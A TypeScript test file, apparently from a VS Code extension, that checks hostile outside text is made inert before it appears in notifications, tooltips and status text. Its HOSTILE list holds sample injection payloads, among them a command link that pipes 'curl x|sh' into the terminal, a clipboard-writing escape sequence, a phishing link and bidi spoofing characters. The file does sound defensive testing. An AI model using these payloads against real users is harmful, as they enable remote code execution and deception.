/**
 * Finding 1 (issue 11): text from outside reaches notifications, quick picks, input boxes, tree
 * rows and tooltips. Hostile titles, commands, question text, error text and version strings
 * must come out without a working link, codicon, forged line or control character.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, test } from 'node:test';
import type { PermissionModel, QuestionModel } from '../../src/core/model/model';
import { incidentMessage } from '../../src/core/present/attention';
import { escapeMarkdown, inlineCode } from '../../src/core/present/markdown';
import { plainText } from '../../src/core/present/neutralize';
import { makeInstance, makeSession, makeSnapshot } from '../fixtures/legacy/snapshots';
import { presentStatus } from '../../src/core/present/statusText';

const LINK = '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cr%22%7D)';
const HOSTILE = [
  LINK,
  'see <command:workbench.action.openSettings> now',
  'command:workbench.action.terminal.new',
  '$(zap) $(sync~spin) fake icons',
  'line one\nInstall update: [here](https://evil.example)',
  'title\x1b]0;pwned\x07 \x1b]52;c;Y3VybCB4fHNo\x07 \x9b31m C1',
  'bidi \u202eexe.txt\u202c \u2066iso\u2069',
  'del\x7f and nul\x00 and cr\r',
];

/** A rendered VS Code link: `[label](scheme:…)` (notifications' LinkedText syntax) or a bare command: URI. */
function hasLink(text: string): boolean {
  return /\[[^\]]*\]\((?:https?:|command:|file:)/i.test(text) || /command:[a-z]/i.test(text) || /<[a-z]+:/i.test(text);
}
function hasControl(text: string): boolean {
   
  return /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(text);
}
function hasIcon(text: string): boolean {
  return /(^|[^\\])\$\([a-z]/i.test(text);
}
function assertInert(text: string, context: string): void {
  assert.ok(!hasLink(text), `${context}: a link survived in ${JSON.stringify(text)}`);
  assert.ok(!hasControl(text), `${context}: a control character survived in ${JSON.stringify(text)}`);
  assert.ok(!hasIcon(text), `${context}: a codicon survived in ${JSON.stringify(text)}`);
}

const NOW = 1_766_900_060_000;

describe('finding 1: outside text is neutralised before any VS Code surface', () => {
  test('finding 1: plainText makes hostile strings inert but keeps them readable', () => {
    for (const h of HOSTILE) assertInert(plainText(h), 'plainText');
    assert.equal(plainText('npm test — ok'), 'npm test — ok');
    assert.match(plainText(LINK), /run/);
  });

  test('finding 1: incidentMessage with hostile title, command, question and error text', () => {
    for (const h of HOSTILE) {
      const permission: PermissionModel = { id: 'per_1', sessionId: 'ses_1', permission: 'bash', patterns: [h], command: h, always: [], askedAt: NOW };
      const question: QuestionModel = { id: 'que_1', sessionId: 'ses_1', questions: [{ question: h, header: h, options: [{ label: h, description: h }] }] } as QuestionModel;
      const messages = [
        incidentMessage({ kind: 'needsYou', session: makeSession({ title: h, needsAttention: true, permissions: [permission] }), permission }),
        incidentMessage({ kind: 'needsYou', session: makeSession({ title: h, needsAttention: true, questions: [question] }), question }),
        incidentMessage({ kind: 'finished', session: makeSession({ title: h, lastError: h }) }),
        incidentMessage({ kind: 'needsYou', session: makeSession({ title: h, needsAttention: true }) }),
      ];
      for (const m of messages) assertInert(m, 'incidentMessage');
    }
  });

  test('finding 1: error text and version strings shown in notifications', () => {
    // reportFailure (src/vscode/commands/targets.ts), servers.ts and the server version (general.ts) pass through plainText.
    for (const h of HOSTILE) assertInert(plainText(`Probing http://x: OpenCode ${h}, 1 session(s)`), 'version');
    const sources = ['src/vscode/commands/targets.ts', 'src/vscode/commands/servers.ts', 'src/vscode/commands/general.ts', 'src/vscode/commands/questions.ts', 'src/vscode/views/treeItems.ts'];
    for (const file of sources) {
      const text = fs.readFileSync(path.join(__dirname, '..', '..', '..', file), 'utf8');
      assert.match(text, /plainText\(/, `${file} does not neutralise outside text`);
      // No notification built from a template string without plainText around it.
      for (const m of text.matchAll(/show(?:Error|Warning|Information)Message\(\s*`([^`]*)`/g)) {
        assert.ok(!/\$\{(?!count)/.test(m[1] ?? ''), `${file}: notification template with outside text not neutralised: ${m[0]}`);
      }
    }
  });

  test('finding 1: Markdown tooltips escape links and drop control characters', () => {
    for (const h of HOSTILE) {
      const md = escapeMarkdown(h);
      assert.ok(!/(^|[^\\])\[[^\]]*(^|[^\\])\]\(/.test(md), `escapeMarkdown left a link: ${md}`);
      assert.ok(!hasControl(md.replace(/ {2}\n/g, '')), `escapeMarkdown left a control char: ${JSON.stringify(md)}`);
      assert.ok(!hasControl(inlineCode(h)), `inlineCode left a control char: ${JSON.stringify(inlineCode(h))}`);
    }
    const snapshot = makeSnapshot([makeInstance()], HOSTILE.map((h, i) => makeSession({ id: `ses_${i}`, title: h, needsAttention: true, waitingSince: NOW })));
    const status = presentStatus(snapshot, NOW);
    assert.ok(!hasControl(status.text), 'status bar text');
    assert.ok(!hasControl(status.tooltip.replace(/ {2}\n/g, '').replace(/\n/g, '')), 'status tooltip');
  });
});
